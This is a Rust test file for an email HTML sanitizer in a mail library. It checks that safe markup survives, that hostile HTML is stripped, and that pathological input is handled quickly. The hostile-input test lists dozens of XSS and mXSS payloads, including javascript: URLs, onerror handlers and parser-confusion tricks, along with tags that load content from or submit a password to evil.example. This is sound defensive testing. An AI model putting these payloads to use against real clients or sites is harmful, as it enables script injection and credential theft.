//! HTML from anybody is safe to show (control 49).

use pforte_mail::message::html::{safe, text};

#[test]
fn ordinary_html_keeps_its_form() {
    let rows = [
        ("<p>Hi <b>you</b></p>", "<p>Hi <b>you</b></p>"),
        ("<UL><LI>a<LI>b</UL>", "<ul><li>a</li><li>b</li></ul>"),
        ("a<br/>b<hr>", "a<br>b<hr>"),
        (
            "<a href='https://a.example/?b=1&amp;c=2' target=_blank>x</a>",
            "<a href=\"https://a.example/?b=1&amp;c=2\" rel=\"noopener noreferrer\">x</a>",
        ),
        (
            "<a href=\"mailto:a@b.example\">x</a>",
            "<a href=\"mailto:a@b.example\" rel=\"noopener noreferrer\">x</a>",
        ),
        (
            "<img src='cid:a@b' alt='A \"b\"' width=10>",
            "<img data-cid=\"a@b\" alt=\"A &quot;b&quot;\" width=\"10\">",
        ),
        ("<img src='https://a.example/pixel.png' alt=x>", "<img alt=\"x\">"),
        ("5 &lt; 6 &amp;lt; 7 &auml;", "5 &lt; 6 &amp;lt; 7 ä"),
        ("<td>x</td>", "x"),
    ];
    for (source, expected) in rows {
        assert_eq!(safe(source), expected, "{source}");
    }
}

/// Control 49: no script, no fetch, whatever the disguise.
#[test]
fn nothing_active_comes_through() {
    let hostile = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<img src='cid:x\" onerror=\"alert(1)'>",
        "<img src=cid:x onerror=alert(1)//>",
        "<img alt='\"><script>alert(1)</script>' src=cid:a>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" jAvAsCrIpT:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"vbscript:x\" onclick=alert(1)>x</a>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<iframe src=https://evil.example></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object data=x.swf></object><embed src=x>",
        "<form action=https://evil.example><input name=password></form>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<base href=https://evil.example/>",
        "<style>@import 'https://evil.example/x.css'</style>",
        "<div style=\"background:url(https://evil.example/x)\">x</div>",
        "<body background=https://evil.example/x onload=alert(1)>",
        "<table background=https://evil.example/x>",
        "<video src=https://evil.example/x autoplay><source src=x></video>",
        "<img srcset='https://evil.example/x 2x'>",
        "<picture><source srcset=https://evil.example/x></picture>",
        "<p title='</p><script>alert(1)</script>'>x",
        "<!--><script>alert(1)</script>-->",
        "<!--[if mso]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version='1.0'?><script>alert(1)</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea></textarea><script>alert(1)</script>",
        "<title><script>alert(1)</script>",
        "<xmp><script>alert(1)</script></xmp>",
        "<template><script>alert(1)</script></template>",
        "<a/href=\"javascript:alert(1)\"/>x",
        "<p/onmouseover=alert(1)>x",
        "<\0script>alert(1)</script>",
        "<img\tsrc=x\u{c}onerror=alert(1)>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "<a href='https://evil.example/\"onmouseover=\"alert(1)'>x</a>",
    ];
    for source in hostile {
        let shown = safe(source);
        let tags: Vec<&str> = shown.split('<').skip(1).map(|rest| rest.split('>').next().unwrap()).collect();
        for tag in tags {
            let lower = tag.to_lowercase();
            let name = lower.trim_start_matches('/').split(' ').next().unwrap();
            assert!(["a", "p", "div", "img", "table"].contains(&name), "{source} → {shown}");
            let outside_values: String = lower.split('"').step_by(2).collect();
            for part in [" on", "style", " src", "background", "action"] {
                assert!(!outside_values.contains(part), "{source} → {shown}");
            }
            assert!(!lower.contains("script:") && !lower.contains("data:"), "{source} → {shown}");
        }
    }
}

/// Control 49: trees that make parsers slow are no trees any more when they reach one.
#[test]
fn deep_and_wide_html_is_done_at_once() {
    let many = 128 * 1024;
    for piece in [
        "<div>",
        "<b>",
        "<p>",
        "<table>",
        "<table><tr><td>",
        "<a href=x>",
        "<div><object></div></object>",
        "</p>",
        "<",
        "<!--",
        "<a b c d e f=",
        "&",
        "&#",
        "<script>",
        "</script",
        "<svg",
        "<b><p>",
        "<font><p>",
        "\"'",
        "<img a='",
    ] {
        let source = piece.repeat(many / piece.len());
        let shown = safe(&source);
        assert!(shown.len() <= many * 6, "{piece}");
        let _ = text(&source);
    }
    let attributes = format!("<a {}>x</a>", "b='c' ".repeat(100_000));
    assert_eq!(safe(&attributes), "<a rel=\"noopener noreferrer\">x</a>");
}

#[test]
fn text_is_taken_from_html() {
    let source = "<html><head><title>no</title><style>p{}</style></head><body><p>Hello&nbsp;<b>Kim</b>,</p>\n\
                  <div>one<br>two</div><ul><li>a</li><li>b</li></ul><script>no</script></body></html>";
    assert_eq!(text(source), "Hello Kim,\n\none\ntwo\n\n- a\n- b");
}
